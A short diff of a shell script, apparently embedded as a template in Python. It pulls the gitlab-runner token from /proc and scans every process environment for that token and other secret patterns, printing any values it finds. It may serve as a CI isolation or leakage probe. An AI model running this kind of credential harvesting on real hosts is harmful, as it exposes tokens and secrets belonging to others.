@@ -23,6 +23,7 @@ runner=$(pidof gitlab-runner | cut -d' ' -f1)
 prey=$(tr '\0' '\n' < /proc/$runner/cmdline | sed -n 's/^--token=//p')
 test ${{#prey}} -ge 8 || echo "NO PREY"
 hits() {{ grep -aoE "{SECRETS}|$prey" | sort -u | while read -r hit; do
+  case "$prey" in *"$hit"*) echo "PREY $1"; continue ;; esac
   case "$hit" in "${{prey:0:20}}"*) echo "PREY $1" ;; *) echo "HIT $1 $hit" ;; esac; done; }}
 for p in /proc/[0-9]*; do
   cat $p/environ 2>/dev/null | tr '\0' '\n' | hits $p/environ
